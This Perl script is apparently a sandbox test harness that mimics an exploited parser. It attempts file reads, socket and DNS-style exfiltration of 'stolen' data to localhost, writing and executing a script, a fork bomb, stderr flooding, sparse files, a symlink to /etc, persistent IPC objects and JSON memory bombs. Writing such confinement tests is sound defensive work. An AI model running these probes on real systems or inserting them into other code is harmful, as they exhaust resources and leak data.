# What an exploited parser would try. Standard Perl of any Debian. The same program run outside the sandbox is each attack's twin.
use strict;
use warnings;
use Fcntl qw(O_CREAT O_WRONLY);
use POSIX ();
use Socket qw(:DEFAULT inet_pton pack_sockaddr_in6 pack_sockaddr_un AF_INET6 AF_UNIX);

$| = 1;

sub slurp {
    open(my $file, '<', $_[0]) or return "refused: $!";
    return "read";
}

sub send_to {
    my ($family, $type, $address, $words) = @_;
    socket(my $socket, $family, $type, 0) or return "refused: $!";
    connect($socket, $address) or return "unreachable: $!";
    defined(send($socket, $words // 'stolen', 0)) or return "unsent: $!";
    return "sent";
}

# Numbers of system calls that Perl has no words for.
my %numbers = (POSIX::uname())[4] eq 'x86_64'
    ? (setxattr => 188, inotify_init1 => 294, inotify_add_watch => 254)
    : (setxattr => 5, inotify_init1 => 26, inotify_add_watch => 27);

sub call { my ($name, @arguments) = @_; return syscall($numbers{$name}, @arguments) }

sub nodes { return '{"a":[' . '[],' x $_[0] . '[]]}' }

my %attacks = (
    read => sub { slurp($_[0]) },
    input => sub { slurp($_[1]) },
    agent => sub { slurp('/proc/' . getppid() . "/$_[0]") },
    tcp4 => sub { send_to(AF_INET, SOCK_STREAM, pack_sockaddr_in($_[0], inet_pton(AF_INET, '127.0.0.1'))) },
    udp4 => sub { send_to(AF_INET, SOCK_DGRAM, pack_sockaddr_in($_[0], inet_pton(AF_INET, '127.0.0.1'))) },
    tcp6 => sub { send_to(AF_INET6, SOCK_STREAM, pack_sockaddr_in6($_[0], inet_pton(AF_INET6, '::1'))) },
    udp6 => sub { send_to(AF_INET6, SOCK_DGRAM, pack_sockaddr_in6($_[0], inet_pton(AF_INET6, '::1'))) },
    unix => sub { send_to(AF_UNIX, SOCK_STREAM, pack_sockaddr_un($_[0])) },
    datagram => sub { send_to(AF_UNIX, SOCK_DGRAM, pack_sockaddr_un($_[0])) },
    abstract => sub { send_to(AF_UNIX, SOCK_STREAM, pack_sockaddr_un("\0$_[0]")) },
    # What is stolen travels as a name to look up: a question of type A to whoever is the resolver.
    dns => sub {
        my $question = pack('n6', 4711, 0x100, 1, 0, 0, 0) . "\x06stolen\x07example\x00" . pack('n2', 1, 1);
        send_to(AF_INET, SOCK_DGRAM, pack_sockaddr_in($_[0], inet_pton(AF_INET, '127.0.0.1')), $question);
    },
    execute => sub {
        my $path = "$_[2]/written";
        sysopen(my $file, $path, O_CREAT | O_WRONLY, 0755) or return "unwritten: $!"; # so that no chmod is needed
        print $file "#!/bin/sh\nexit 0\n";
        close($file);
        my $status = system { $path } $path;
        unlink $path;
        return $status == 0 ? "executed" : "refused: $!";
    },
    change => sub { open(my $file, '>>', $_[1]) ? "changed" : "refused: $!" },
    fork => sub {
        for (1 .. $_[0]) { my $child = fork(); last unless defined $child; if (!$child) { sleep 15; exit 0 } }
        sleep 2;
        return "forked";
    },
    bomb => sub { while (1) { fork() } },
    flood => sub { print STDERR 'x' x 65536 while 1 },
    sparse => sub { open(my $file, '>', "$_[2]/text.txt") or return "unwritten: $!"; truncate($file, 1 << 42); sleep 5; return "sparse" },
    fifo => sub { POSIX::mkfifo("$_[2]/text.txt", 0600) ? "made" : "refused: $!" },
    linked => sub { symlink('/etc', "$_[2]/artifacts") ? "linked" : "refused: $!" },
    files => sub {
        mkdir "$_[2]/artifacts";
        for (1 .. $_[0]) { open(my $file, '>', "$_[2]/artifacts/$_") or return "unwritten: $!"; print $file $_ }
        sleep 2 if $_[0] > 1000;
        return "written";
    },
    deep => sub {
        my $depth = 0;
        chdir $_[2];
        while ($depth < $_[0] && mkdir('d') && chdir('d')) { $depth++ }
        chdir $ENV{HOME};
        return "nested";
    },
    shut => sub { mkdir "$_[2]/artifacts"; mkdir "$_[2]/artifacts/none", 0; return "shut" },
    # What a user may do with all that is his, whether or not he can open it. Outside of the sandbox these succeed.
    mode => sub { chmod(0600, $_[0]) ? "changed" : "refused: $!" },
    own => sub { chown($<, -1, $_[0]) ? "changed" : "refused: $!" },
    times => sub { utime(1, 1, $_[0]) ? "changed" : "refused: $!" },
    label => sub { my ($path, $name, $value) = ($_[0], 'user.quarry', 'x'); call('setxattr', $path, $name, $value, 1, 0) < 0 ? "refused: $!" : "changed" },
    watch => sub {
        my $path = $_[0];
        my $watch = call('inotify_init1', 0);
        return "refused: $!" if $watch < 0;
        return call('inotify_add_watch', $watch, $path, 2) < 0 ? "refused: $!" : "watching";
    },
    opened => sub { open(my $file, '<', $_[1]) or return "unopened: $!"; chmod(0600, $file) ? "changed" : "refused: $!" },
    # Memory and messages that stay when this process is gone. The flag is IPC_CREAT, the command IPC_RMID.
    shared => sub { my $id = shmget(0, 4096, 01000 | 0600); return "refused: $!" unless defined $id; shmctl($id, 0, 0); return "made" },
    queue => sub { my $id = msgget(0, 01000 | 0600); return "refused: $!" unless defined $id; my $none = ''; msgctl($id, 0, $none); return "made" },
    # Answers, and goes on with what it left through a descriptor that it kept.
    later => sub {
        mkdir "$_[2]/artifacts";
        open(my $file, '+>', "$_[2]/artifacts/a") or return "unwritten: $!";
        syswrite($file, 'x' x 1000);
        my $child = fork();
        return "left" if $child;
        select(undef, undef, undef, 2);
        if ($_[0] eq 'append') { syswrite($file, 'y' x 1000) }
        if ($_[0] eq 'truncate') { truncate($file, 10) }
        if ($_[0] eq 'overwrite') { sysseek($file, 0, 0); syswrite($file, 'y' x 1000) }
        POSIX::_exit(0);
    },
    # Few bytes, and millions of values in memory.
    nodes => sub { open(my $file, '>', "$_[2]/metadata.json") or return "unwritten: $!"; print $file nodes(2_700_000); return "written" },
    segments => sub { open(my $file, '>', "$_[2]/segments.ndjson") or return "unwritten: $!"; print $file nodes(2_700), "\n" for 1 .. 1000; return "written" },
    answer => sub { print '{"status":"OK","metadata":', nodes(1_300_000), "}\n"; return },
    answers => sub { for (1 .. 100) { print '{"id":0,"status":"OK","words":"', 'x' x 4_000_000, "\"}\n" } return "said" },
);

while (my $request = <STDIN>) {
    my ($input) = $request =~ /"input":"([^"]*)"/;
    my ($output) = $request =~ /"output":"([^"]*)"/;
    open(my $file, '<', $input) or die "$input: $!";
    my ($attack, $aim) = split / /, <$file> // '', 2;
    my $got = $attacks{$attack}->($aim // '', $input, $output);
    print "{\"status\":\"OK\",\"metadata\":{\"got\":\"$got\"}}\n" if defined $got;
}
